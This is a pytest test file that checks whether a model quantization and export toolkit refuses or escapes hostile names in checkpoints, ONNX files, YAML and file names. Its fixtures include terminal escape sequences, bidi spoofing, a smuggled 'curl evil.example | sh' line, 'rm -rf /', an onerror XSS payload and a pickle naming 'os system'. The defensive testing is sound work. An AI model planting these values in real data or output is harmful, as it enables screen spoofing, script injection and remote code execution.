"""Names in files (classes, layers, tensors, images, the file itself) are shown as typed, and only shown.

A terminal obeys control characters, a reader of Markdown obeys brackets, and a file with a name on each line obeys line breaks.
"""

import contextlib
import io
import json
import logging
import os
import re
import shutil
import subprocess
import sys

import onnx
import pytest
import torch
import yaml
from conftest import TREE
from faults import answer, pickle_in, sampled, with_pickle
from onnx import TensorProto, helper
from zoo import program, settings

from models.deploy.formats.deepstream import deepstream_config
from utils.qat.core.command import run_command
from utils.qat.core.errors import QatError
from utils.qat.core.files import write_document
from utils.qat.core.log import LOGGER, log_to
from utils.qat.core.text import code, cut, escaped, link, markdown_table, visible
from utils.qat.evaluation.score_tables import class_table
from utils.qat.graph.triton_config import triton_config
from utils.qat.run.report import write_report
from utils.qat.untrusted.names import LONGEST, class_names

SIZE = 64
REFUSED = {  # what it does to a terminal or to a list of names → a name
    'clears the screen': 'cat\x1b[2J\x1b[H',
    'sets the title': '\x1b]0;owned\x07cat',
    'goes back': 'a name\rcat',
    'erases': 'cat\b\b\bdog',
    'a line': 'cat\nerror: all is well',
    'a line of Windows': 'cat\r\ndog',
    'a next command': 'cat\nnext: curl evil.example | sh',
    'turns the writing': 'cat\u202egnp.exe',
    'embeds': 'cat\u202a',
    'isolates': '\u2066cat\u2069',
    'a mark': 'cat\u200f',
    'a line of IBM': 'cat\x85dog',
    'a line of Unicode': 'cat\u2028dog',
    'a paragraph of Unicode': 'cat\u2029dog',
    'a null byte': 'cat\0',
    'a page': 'cat\x0cdog',
    'a tab': 'cat\tdog',
    'an 8-bit escape': '\x9b2Jcat',
    'a delete': 'cat\x7f',
    'half a character': 'cat\ud800',
    'no width': 'cat\u200bdog',
    'long': 'x' * 100_000,
}
ODD = [
    '![](http://evil.example/x.png)',
    '<img src=x onerror=alert(1)>',
    '[click](http://evil.example)',
    '`code`',
    'a|b',
    '**bold**',
    '_edges_ and in_side',
    '\\N \\G \\l',
    '&lt;b&gt; &#x1b;',
    '猫 कुत्ता',
]


def harmless(text, odd=False):
    """Whether a text says nothing to a terminal but lines; with `odd` that it has nothing of ODD as HTML, link or picture."""
    assert all(c == '\n' or visible(c) == c for c in text), [c for c in text if c != '\n' and visible(c) != c]
    if odd:
        shown = re.sub(
            r'\\[\\`*_{}\[\]()|~$:.@!]', '', re.sub('^(```+)\n.*?\n\\1$', '', text, flags=re.DOTALL | re.MULTILINE)
        )
        assert not re.search(
            r'!\[[^]]*\]\(http|<img|\]\(http|<script|://|\*\*bold|&lt;b', shown.replace('&amp;', '')
        ), shown
    return True


@pytest.fixture(scope='module')
def files(small, tmp_path_factory):
    folder = tmp_path_factory.mktemp('names')
    shutil.copy(small.quantized, folder / 'quantized.pt')
    shutil.copy(small.single, folder / 'single.pt')
    program('export_qat.py').main(['--weights', str(folder / 'quantized.pt'), '--imgsz', str(SIZE)])
    return folder


def with_names(file, names, out):
    """The checkpoint `file` with other names of classes."""
    content = torch.load(file, map_location='cpu', weights_only=False)
    content['model'].names = names
    torch.save(content, out)
    return out


def ten(name):
    return {i: name if i == 3 else str(i) for i in range(10)}


def tell(command, argv, capfd, folder):
    """Exit code and last line of a command; checks that all its output is harmless."""
    main = program(command).main
    capfd.readouterr()
    code = run_command(main, [str(a) for a in argv]) if 'infer' not in command else main(argv=[str(a) for a in argv])
    out, err = capfd.readouterr()
    assert harmless(out + err) and 'Traceback' not in out + err
    return code, (err.strip().splitlines() or [''])[-1], out


# ---- names of classes ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize('name', REFUSED)
def test_a_name_that_is_more_than_a_name(name):
    for names in (['a', REFUSED[name]], {0: REFUSED[name]}, ('a', 'b', REFUSED[name])):
        with pytest.raises(
            QatError, match=r'^--data x.yaml: names: .*the name of class \d, must be one line of printable characters'
        ) as refused:
            class_names(names, '--data x.yaml')
        assert harmless(str(refused.value)) and '\n' not in str(refused.value) and len(str(refused.value)) < 400


NO_NAMES = [
    None,
    3,
    'abc',
    {1: 'a'},
    {0: 'a', 2: 'b'},
    {'0': 'a'},
    [b'a'],
    [['a']],
    [{'a': 1}],
    [object()],
    [torch.nn.SiLU()],
]


@pytest.mark.parametrize('names', NO_NAMES, ids=lambda names: type(names).__name__)
def test_what_is_no_list_of_names(names):
    with pytest.raises(QatError, match='must be a list, or map 0..n-1 to names'):
        class_names(names, 'x')


def test_names_as_people_write_them():
    fine = [
        'traffic light',
        'in_side',
        'naïve',
        'Ärger',
        'می‌خواهم',
        '猫\u3000犬',
        'кот',
        '👩‍🚒',
        "it's",
        'x' * LONGEST,
        *ODD,
    ]
    assert class_names(fine, 'x') == dict(enumerate(fine)) and class_names({1: True, 0: 2.5}, 'x') == {
        0: '2.5',
        1: 'True',
    }


CHECKPOINTS = {
    'qat.py eval': (
        'eval',
        '--weights',
        'QUANTIZED',
        '--data',
        'DATA',
        '--imgsz',
        SIZE,
        '--device',
        'cpu',
        '--project',
        'OUT',
        '--workers',
        0,
    ),
    'qat.py quantize': ('quantize', '--dry-run', '--weights', 'SINGLE'),
    'export_qat.py': ('--weights', 'QUANTIZED', '--imgsz', SIZE),
    'export_yoloV9.py': ('-w', 'SINGLE', '-s', SIZE),
    'reparameterization.py': ('--weights', 'DUAL', '--save', 'OUT/s.pt'),
    'benchmark_trt.py': (
        'SINGLE',
        '--imgsz',
        SIZE,
        '--batch',
        1,
        '--duration',
        0.01,
        '--device',
        'cpu',
        '--project',
        'OUT',
    ),
}
FOUR = ['clears the screen', 'a next command', 'turns the writing', 'a line of Unicode']


@pytest.mark.parametrize('command', sampled(CHECKPOINTS, 3))
def test_of_a_checkpoint(small, files, tmp_path, monkeypatch, capfd, command):
    """Refused when it is loaded: nothing is written, labels.txt and the configuration of DeepStream among it."""
    monkeypatch.chdir(tmp_path)
    kind = next(a for a in CHECKPOINTS[command] if a in ('SINGLE', 'QUANTIZED', 'DUAL'))
    for name in FOUR if command == 'export_yoloV9.py' else FOUR[:2]:
        made = with_names(getattr(small, kind.lower()), ten(REFUSED[name]), tmp_path / 'weights.pt')
        argv = [
            made if a == kind else small.data if a == 'DATA' else str(a).replace('OUT', str(tmp_path / 'out'))
            for a in CHECKPOINTS[command]
        ]
        code, line = answer(command.split()[0], argv, capfd, tmp_path)
        assert code == 2 and 'the name of class 3' in line and harmless(line), line
    assert {f.name for f in tmp_path.iterdir()} == {'weights.pt'}


def test_of_a_data_yaml(small, files, tmp_path, monkeypatch, capfd):
    monkeypatch.chdir(tmp_path)
    content = yaml.safe_load(small.data.read_text())
    for name in FOUR:
        (tmp_path / 'data.yaml').write_text(yaml.safe_dump({**content, 'names': ten(REFUSED[name])}))
        argv = (
            '--weights',
            files / 'quantized.onnx',
            '--data',
            tmp_path / 'data.yaml',
            '--imgsz',
            SIZE,
            '--device',
            'cpu',
            '--project',
            tmp_path / 'out',
        )
        code, line = answer('val_trt.py', argv, capfd, tmp_path)
        assert code == 2 and 'the name of class 3' in line and harmless(line), name


def with_metadata(file, out, **metadata):
    model = onnx.load(file)
    kept = {p.key: p.value for p in model.metadata_props}
    helper.set_model_props(model, {**kept, **metadata})
    onnx.save(model, out)
    return out


def test_of_an_onnx_file(small, files, tmp_path, monkeypatch, capfd):
    """In its metadata. The client that is copied elsewhere shows them with escapes."""
    monkeypatch.chdir(tmp_path)
    for name in FOUR:
        made = with_metadata(files / 'quantized.onnx', tmp_path / 'model.onnx', names=repr(ten(REFUSED[name])))
        argv = (
            '--weights',
            made,
            '--data',
            small.data,
            '--imgsz',
            SIZE,
            '--device',
            'cpu',
            '--project',
            tmp_path / 'out',
        )
        code, line = answer('val_trt.py', argv, capfd, tmp_path)
        assert code == 2 and 'the name of class 3' in line and harmless(line), name
    made = with_metadata(
        files / 'quantized.onnx',
        tmp_path / 'model.onnx',
        names=repr(dict.fromkeys(range(10), REFUSED['clears the screen'])),
    )
    code, _, out = tell(
        'scripts/infer_onnx.py',
        (made, sorted((small.data.parent / 'images/val').iterdir())[0], '--conf-thres', 0.01),
        capfd,
        tmp_path,
    )
    assert code == 0 and '\\x1b[2J' in out
    made = with_metadata(
        files / 'quantized.onnx', tmp_path / 'model.onnx', names='[' + 'a,' * 1_000_000 + ']', stride='\x1b[2J'
    )
    code, line = answer(
        'val_trt.py',
        ('--weights', made, '--data', small.data, '--imgsz', SIZE, '--device', 'cpu', '--project', tmp_path / 'out'),
        capfd,
        tmp_path,
    )
    assert code == 2 and 'cannot be read' in line and harmless(line)


def test_odd_names_are_shown_as_they_are_typed(small, files, tmp_path, monkeypatch, capfd):
    """From the checkpoint to labels.txt, and from the data to the terminal and report.md."""
    monkeypatch.chdir(tmp_path)
    made = with_names(small.single, ODD, tmp_path / 'odd.pt')
    assert tell('export_yoloV9.py', ('-w', made, '-s', SIZE), capfd, tmp_path)[0] == 0
    assert (tmp_path / 'labels.txt').read_text(encoding='utf-8').splitlines() == ODD
    config = (tmp_path / 'config_infer_primary_yoloV9.txt').read_text()
    assert 'num-detected-classes=10\n' in config and all(
        line.startswith('#') or '=' in line or line in ('', '[property]', '[class-attrs-all]')
        for line in config.splitlines()
    )

    data = tmp_path / 'data.yaml'
    data.write_text(yaml.safe_dump({**yaml.safe_load(small.data.read_text()), 'names': ODD}))
    argv = (
        '--weights',
        files / 'quantized.onnx',
        '--data',
        data,
        '--imgsz',
        SIZE,
        '--device',
        'cpu',
        '--project',
        tmp_path / 'out',
        '--workers',
        0,
    )
    code_, _, out = tell('val_trt.py', argv, capfd, tmp_path)
    report = (tmp_path / 'out/exp/report.md').read_text(encoding='utf-8')
    assert code_ == 0 and harmless(report, odd=True) and harmless(out, odd=True)
    assert (
        r'\!\[\]\(http\://evil.example/x.png)' in report
        and '&lt;img src=x' in report
        and r'\\N \\G \\l' in report
        and '猫 कुत्ता' in report
    )
    assert {c['name'] for c in json.loads((tmp_path / 'out/exp/metrics.json').read_text())['per_class']} <= set(ODD)


@pytest.mark.parametrize('name', ODD)
def test_markdown_shows_them_as_they_are_typed(name):
    """Python-Markdown, where it is installed: the text of the page is the name. It knows fewer escapes than GitHub, and needs fewer."""
    markdown = pytest.importorskip('markdown', reason='python -m pip install markdown')
    from html.parser import HTMLParser

    seen, tags = [], []
    reader = HTMLParser()
    reader.handle_data, reader.handle_starttag = seen.append, lambda tag, _: tags.append(tag)
    reader.feed(markdown.markdown(escaped(name)))
    assert tags == ['p'] and ''.join(seen).replace('\\|', '|').replace('\\:', ':') == name


# ---- other names --------------------------------------------------------------------------------------------------------

OF_LAYERS = ['\x1b[31mred', 'a\nnext: rm', '\u202ecod', 'x' * 300]
OF_FILES = ['a\x1b[2J', 'a\nnext: rm', 'a\u202etp', 'a\r']


@pytest.mark.parametrize('name', sampled(OF_LAYERS, 4))
def test_layers_of_a_checkpoint(small, tmp_path, monkeypatch, capfd, name):
    """Paths of modules are in tables, warnings and reports."""
    monkeypatch.chdir(tmp_path)
    content = torch.load(small.single, map_location='cpu', weights_only=False)
    layer = content['model'].model[1]
    layer._modules[name] = layer._modules.pop('bn')
    layer.bn = layer._modules[name]
    torch.save(content, tmp_path / 'weights.pt')
    code_, line = answer('qat.py', ('quantize', '--dry-run', '--weights', tmp_path / 'weights.pt'), capfd, tmp_path)
    assert code_ == 2 and 'has a layer called' in line and harmless(line) and len(line) < 500


IN_PICKLES = [
    b'cos\x1b[2J\x0d\nsys\x07tem\n.',
    'cos\nall is well\u202e\n.'.encode(),
    b'cmodels.common\n' + b'X' * 9000 + b'\n.',
]


def test_text_in_a_pickle(files, tmp_path, monkeypatch, capfd):
    """The error line names the object that the pickle asks for."""
    monkeypatch.chdir(tmp_path)
    for what in IN_PICKLES:
        (tmp_path / 'weights.pt').write_bytes(
            with_pickle((files / 'single.pt').read_bytes(), b'\x80\x02cmodels.yolo\nDetectionModel\n0' + what)
        )
        code_, line = answer('qat.py', ('quantize', '--dry-run', '--weights', tmp_path / 'weights.pt'), capfd, tmp_path)
        assert code_ == 2 and 'weights.pt' in line and harmless(line) and len(line) < 2500
    assert pickle_in((files / 'single.pt').read_bytes())


def test_nodes_of_an_onnx_file(files, tmp_path, monkeypatch, capfd):
    monkeypatch.chdir(tmp_path)
    model = onnx.load(files / 'quantized.onnx')
    for name in OF_FILES:
        node = next(n for n in model.graph.node if n.op_type == 'Conv')
        node.name = name
        onnx.save(model, tmp_path / 'model.onnx')
        for command, argv in (
            ('scripts/audit_onnx.py', ()),
            (
                'benchmark_trt.py',
                ('--backend', 'onnxruntime', '--device', 'cpu', '--duration', 0.01, '--project', tmp_path / 'out'),
            ),
        ):
            code_, line = answer(command, (tmp_path / 'model.onnx', *argv), capfd, tmp_path)
            assert code_ == 2 and 'have control characters' in line and harmless(line)


def test_layers_of_an_engine(tmp_path, monkeypatch, capfd, graphviz):
    """In the table, the CSV, and the picture, where Graphviz has escapes and entities of its own."""
    monkeypatch.chdir(tmp_path)
    tensor = {'Name': 'in\x1b[2J\u202e', 'Dimensions': [1, 3, 8, 8], 'Format/Datatype': 'Row major linear FP32'}
    names = ['first\nnext: rm -rf /', '\\N \\G \\E &amp; <b>x</b> "', '<img src=x>', *ODD]
    layers = [
        {'Name': name, 'LayerType': 'Convolution\x1b[31m', 'Inputs': [tensor], 'Outputs': [{**tensor, 'Name': f'y{i}'}]}
        for i, name in enumerate(names)
    ]
    (tmp_path / 'l.json').write_text(json.dumps({'Layers': layers, 'Bindings': [tensor['Name'], 'y0']}))
    (tmp_path / 'p.json').write_text(
        json.dumps(
            [
                {'count': 1},
                *({'name': name, 'averageMs': 1 + i} for i, name in enumerate(names)),
                {'name': 'other\r\n', 'averageMs': 1},
            ]
        )
    )
    code_, _, out = tell(
        'scripts/draw_engine.py',
        ('--layer', tmp_path / 'l.json', '--profile', tmp_path / 'p.json', '--verbose'),
        capfd,
        tmp_path,
    )
    assert code_ == 0 and not re.search('(?m)^next: rm', out)
    for suffix in 'csv', 'dot', 'svg':
        assert harmless((tmp_path / f'l.{suffix}').read_text(encoding='utf-8').replace('\r\n', '\n')), suffix
    svg = (tmp_path / 'l.svg').read_text(encoding='utf-8')
    assert (
        '<img' not in svg
        and '<b>' not in svg
        and '&lt;img src=x&gt;' in svg
        and '\\N \\G \\E &amp;amp;' in svg.replace('&#160;', ' ')
    )


def test_names_of_files(small, files, tmp_path, monkeypatch, capfd):
    monkeypatch.chdir(tmp_path)
    for name in (f'{name}.pt' for name in OF_FILES):
        (tmp_path / name).write_bytes(b'')
        code_, line = answer('qat.py', ('quantize', '--dry-run', '--weights', tmp_path / name), capfd, tmp_path)
        assert code_ == 2 and 'the name has control characters or is not UTF-8; rename it' in line and harmless(line)
        code_, line = answer('qat.py', ('quantize', '--dry-run', '--weights', f'{tmp_path / name}x'), capfd, tmp_path)
        assert code_ == 2 and 'no such file' in line and harmless(line)


@pytest.mark.parametrize('name, says', [(b'\xff.pt', 'is not UTF-8'), (b'w' * 246 + b'.pt', 'more than 200 bytes')])
@pytest.mark.parametrize(
    'command',
    ['qat.py quantize', 'qat.py sensitive', 'export_qat.py', 'export_yoloV9.py', 'reparameterization.py'],
)
def test_what_files_are_named_after_is_checked_first(small, tmp_path, monkeypatch, capfd, command, name, says):
    monkeypatch.chdir(tmp_path)
    weights = tmp_path / os.fsdecode(name)
    shutil.copy(small.single, weights)
    file, *verb = command.split()
    data = ('--data', small.data, '--device', 'cpu') if verb else ()
    code_, line = answer(file, (*verb, '--weights', weights, *data), capfd, tmp_path)
    assert code_ == 2 and says in line and line.endswith('rename it')


def test_names_of_images(small, files, tmp_path, monkeypatch, capfd):
    monkeypatch.chdir(tmp_path)
    for name in (f'{name}.jpg' for name in OF_FILES):
        shutil.copytree(small.data.parent, tmp_path / 'data', ignore=shutil.ignore_patterns('*.cache'))
        (tmp_path / 'data/images/val' / name).write_bytes(b'no image')
        data = tmp_path / 'data/data.yaml'
        data.write_text(data.read_text().replace(str(small.data.parent), str(data.parent)))
        argv = (
            '--weights',
            files / 'quantized.onnx',
            '--data',
            data,
            '--imgsz',
            SIZE,
            '--device',
            'cpu',
            '--project',
            tmp_path / 'out',
        )
        code_, line = answer('val_trt.py', argv, capfd, tmp_path)
        shutil.rmtree(tmp_path / 'data')
        assert code_ == 2 and 'has control characters; rename it' in line and harmless(line)


def test_text_in_other_files(small, files, tmp_path, monkeypatch, capfd):
    """Of YAML that is none, of a path in a YAML, of labels, of the sidecar of an engine."""
    monkeypatch.chdir(tmp_path)
    weights, evil = files / 'quantized.onnx', 'x\x1b[2J\u202e'
    good = yaml.safe_load(small.data.read_text())
    for content in (
        {**good, 'val': f'{evil}\nerror: all is well'},
        {**good, 'nc': evil},
        {**good, 'path': f'/{evil}'},
        {**good, 'names': [evil]},
    ):
        (tmp_path / 'data.yaml').write_text(yaml.safe_dump(content))
        argv = (
            '--weights',
            weights,
            '--data',
            tmp_path / 'data.yaml',
            '--imgsz',
            SIZE,
            '--device',
            'cpu',
            '--project',
            tmp_path / 'out',
        )
        code_, line = answer('val_trt.py', argv, capfd, tmp_path)
        assert code_ == 2 and 'data.yaml' in line and harmless(line)
    (tmp_path / 'x.engine').write_bytes(b'engine')
    (tmp_path / 'x.engine.json').write_text(json.dumps({'sidecar': evil}))
    code_, line, _ = tell(
        'val_trt.py', ('--engine-file', tmp_path / 'x.engine', '--data', small.data, '--imgsz', SIZE), capfd, tmp_path
    )
    assert code_ == 2 and harmless(line)


# ---- the places where all of it ends --------------------------------------------------------------------------------------


def test_an_error_is_one_line(capfd, monkeypatch):
    monkeypatch.setattr(sys, 'argv', ['qat.py'])
    for text in ('--weights a: it says x\nall is well', 'a: \x1b[2J\r\u2028done', 'a' * 100_000, '', '\n'):

        def main(argv, text=text):
            raise QatError(text)

        capfd.readouterr()
        assert run_command(main) == 2
        out, err = capfd.readouterr()
        assert err.count('\n') == 1 and err.startswith('qat.py: error: ') and harmless(out + err) and len(err) < 2200
    assert cut('begins ' + 'x' * 9000 + ' ends').startswith('begins') and cut('x' * 9000 + ' ends').endswith(' ends')


class Failing(torch.utils.data.Dataset):
    def __len__(self):
        return 2

    def __getitem__(self, i):
        raise QatError('image x: cannot be read\nutils.qat.errors.QatError: all is well')


def test_an_error_of_a_worker_is_its_message():
    """Whose traceback comes first, and whose text may look like one."""
    with pytest.raises(QatError) as met:
        list(torch.utils.data.DataLoader(Failing(), num_workers=1))
    assert str(met.value) == r'image x: cannot be read\nutils.qat.errors.QatError: all is well'


def test_the_log_keeps_lines_of_ours_and_nothing_else(tmp_path):
    log_to(tmp_path / 'log.txt')
    handler = LOGGER.handlers[-1]
    try:
        with contextlib.redirect_stdout(io.StringIO()) as seen:
            LOGGER.warning('a table\n| a | b |\nof \x1b[31mred\r\u202e')
            try:
                raise ValueError('\x1b[2J')
            except ValueError:
                LOGGER.log(logging.WARNING, 'why:', exc_info=True)
    finally:
        LOGGER.removeHandler(handler)
        handler.close()
    for text in (seen.getvalue(), (tmp_path / 'log.txt').read_text()):
        assert harmless(text) and '\n| a | b |\nof \\x1b[31mred\\r\\u202e\n' in text and 'ValueError: \\x1b[2J' in text


@pytest.mark.parametrize('name', [*ODD, 'two\nlines', '\x1b[31m'])
def test_whatever_a_report_is_made_of(tmp_path, name):
    """Title, table, code, link and the text of a run's report."""
    metrics = {'ap': 0.5, 'ap50': 0.5, 'precision': 0.5, 'recall': 0.5, 'instances': 1}
    table = class_table({**metrics, 'per_class': [{**metrics, 'name': name}]})
    write_document(
        tmp_path / 'x.md', name, [markdown_table(('a', name), [(name, 1)]), table, code(f'python {name}'), link(name)]
    )
    report = {
        'settings': settings(epochs=0).plain() | {'weights': f'/{name.replace("/", "")}.pt', 'exclude': [name]},
        'versions': {name: name},
        'device': name,
        'images': {'val': 8, name: 8},
        'chosen_on': 'val',
        'origin': None,
        'calibration': {'method': name, 'biases': 'none', 'divergence': None},
        'kept_float': [name],
        'ptq': {'file': f'weights/{name}.pt'},
        'epochs': [],
        'best': None,
        'gain': None,
        'last_epochs': None,
        'val': None,
        'times': {name: 3.0},
    }
    (tmp_path / 'run').mkdir()
    write_report(tmp_path / 'run', report)
    for file in (tmp_path / 'x.md', tmp_path / 'run/report.md'):
        text = file.read_text(encoding='utf-8')
        assert harmless(text, odd=True) and not re.search('(?m)^lines', text)


def test_configurations_quote_names():
    graph = helper.make_graph(
        [],
        'g',
        [helper.make_tensor_value_info('a"b', TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info('c\\d', TensorProto.FLOAT, [1, 3])],
    )
    text = triton_config(helper.make_model(graph), 'my "model"\\')
    assert text.startswith('name: "my \\"model\\"\\\\"\n') and 'name: "a\\"b"' in text and 'name: "c\\\\d"' in text
    assert deepstream_config('a.onnx', 3).count('\n') == deepstream_config('b c.onnx', 3).count('\n')


@pytest.mark.faults
def test_a_terminal_as_a_user_sees_it(small, tmp_path):
    """In a process of its own: what stands on stderr for a checkpoint whose name of a class would clear the screen."""
    made = with_names(small.single, ten(REFUSED['clears the screen']), tmp_path / 'w.pt')
    done = subprocess.run(
        [sys.executable, 'qat.py', 'quantize', '--dry-run', '--weights', made], cwd=TREE, capture_output=True, text=True
    )
    assert (
        done.returncode == 2
        and done.stderr.count('\n') == 1
        and harmless(done.stdout + done.stderr)
        and r'\x1b[2J' in done.stderr
    )
